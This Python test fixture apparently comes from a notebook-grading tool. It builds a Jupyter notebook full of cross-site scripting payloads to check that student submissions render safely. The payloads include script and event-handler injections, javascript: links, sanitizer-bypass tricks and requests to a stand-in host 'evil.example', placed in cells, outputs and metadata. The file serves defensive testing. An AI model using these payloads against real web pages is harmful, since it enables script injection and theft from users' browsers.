"""What a student may write so that a reader's browser runs a script or asks for a file elsewhere."""

import base64
import copy

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

EVIL = "http://evil.example"
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()
FIRE = "(window.fired = window.fired || []).push('{name}')"

HTML = {
    "script": "<script>{fire}</script>",
    "remote-script": "<script src='{evil}'></script>",
    "script-in-two": "<scr<script>ipt>{fire}</scr</script>ipt>",
    "image-handler": "<img src=x onerror=\"{fire}\">",
    "remote-image": "<img src='{evil}'>",
    "remote-image-by-style": "<div style=\"background:url('{evil}')\">x</div>",
    "remote-style": "<link rel=stylesheet href='{evil}'>",
    "style-import": "<style>@import url('{evil}');</style>",
    "frame": "<iframe src='javascript:parent.{fire}'></iframe>",
    "frame-source": "<iframe srcdoc=\"<script>parent.{fire}</script>\"></iframe>",
    "svg": "<svg onload=\"{fire}\"><script>{fire}</script></svg>",
    "svg-image": "<svg><image href='{evil}'></image></svg>",
    "details": "<details open ontoggle=\"{fire}\">x</details>",
    "video": "<video src='{evil}' onerror=\"{fire}\" autoplay></video>",
    "object": "<object data='{evil}'></object><embed src='{evil}'>",
    "link": "<a id=click href=\"javascript:{fire}\">x</a>",
    "entities": "<a href=\"&#106;avascript:{fire}\">x</a>",
    "form": "<form action='{evil}'><input autofocus onfocus=\"{fire}\"></form>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}'>",
    "base": "<base href='{evil}/'><img src=relative.png>",
    "comment": "<!--><img src=x onerror=\"{fire}\">-->",
    "title": "<title><img src=x onerror=\"{fire}\"></title>",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror='{fire}'>\"></noscript>",
    "button": "<button class='btn full-credit' id=total onclick=\"{fire}\">x</button>",
    "dialog": "</div></div></div><body onload=\"{fire}\" onmouseover=\"{fire}\">",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=\"{fire}\"></table></math>",
}  # fmt: skip

MARKDOWN = {
    "tag": "<img src=x onerror=\"{fire}\">",
    "image": "![x]({evil})",
    "image-by-name": "![x][y]\n\n[y]: {evil}",
    "link": "[x](javascript:{fire})",
    "link-by-name": "[x][z]\n\n[z]: javascript:{fire}",
    "address": "<javascript:{fire}>",
    "attribute": "[x](http://a\" onmouseover=\"{fire})",
    "diagram": "```mermaid\n<img src=x onerror=\"{fire}\">\n```",
    "formula": "$$<img src=x onerror=\"{fire}\">$$ and $<script>{fire}</script>$",
    "fence": "``` \"><img src=x onerror=\"{fire}\">\nx\n```",
    "heading": "# <svg onload=\"{fire}\">",
    "table": "| a |\n|---|\n| <img src=x onerror=\"{fire}\"> |",
}  # fmt: skip


def _filled(text: str, name: str) -> str:
    return text.replace("{fire}", FIRE.replace("{name}", name)).replace("{evil}", f"{EVIL}/{name}")


def _odd_outputs():
    """Outputs of a kernel that lies: types, metadata and fields that a template puts into a page."""
    attack = _filled("<img src=x onerror=\"{fire}\">", "odd")  # fmt: skip
    attribute = _filled("1 src={evil} onerror={fire}", "odd-attribute")
    shown = [
        ({"application/javascript": _filled("{fire}", "javascript"), "text/plain": "script"}, {}),
        ({"image/svg+xml": _filled(HTML["svg"], "svg-output")}, {}),
        ({"text/html": attack}, {"text/html": {"isolated": True}}),
        ({"image/png": PIXEL}, {"image/png": {"width": attribute, "height": attribute}}),
        ({"image/png": PIXEL}, {"filenames": {"image/png": f"{EVIL}/file.png"}}),
        ({"image/png": f'x" onerror="{attribute}'}, {}),
        ({"text/latex": f"$\\href{{javascript:{attack}}}{{x}}$"}, {}),
        ({"text/markdown": attack}, {}),
        ({"text/vnd.mermaid": attack, "application/vnd.jupyter.widget-view+json": {"model_id": attack}}, {}),
        ({"text/html": {"not": "a text"}, "text/plain": 3}, {}),
    ]
    outputs = [
        {"output_type": "display_data", "data": data, "metadata": metadata} for data, metadata in shown
    ]
    outputs += [
        {"output_type": "stream", "name": attack, "text": f"{attack}\x1b[31m{attack}\x1b]8;;{EVIL}\x07"},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [f"\x1b[1m{attack}"]},
        {"output_type": "execute_result", "data": {"text/plain": attack}, "execution_count": attack},
        {"output_type": attack, "data": {"text/html": attack}},
    ]  # fmt: skip
    return nbformat.from_dict(outputs)


def hostile(nb):
    """Return a graded notebook with every payload in it."""
    nb = copy.deepcopy(nb)
    for name, text in HTML.items():
        shown = new_output("display_data", data={"text/html": _filled(text, name)})
        nb.cells.append(new_code_cell(f"# </pre>{_filled(text, name)}", outputs=[shown]))
    nb.cells.append(new_code_cell("odd"))
    nb.cells[-1]["outputs"] = _odd_outputs()
    nb.cells[-1]["execution_count"] = _filled("<script>{fire}</script>", "count")
    nb.cells[-1].metadata["execution"] = {"iopub.status.busy": HTML["script"]}
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": _filled(HTML["script"], "lexer")}
    answer = next(cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "double")
    text = "\n\n".join(_filled(text, f"markdown-{name}") for name, text in MARKDOWN.items())
    nb.cells[nb.cells.index(answer)] = new_markdown_cell(text, metadata=answer.metadata)
    return nb
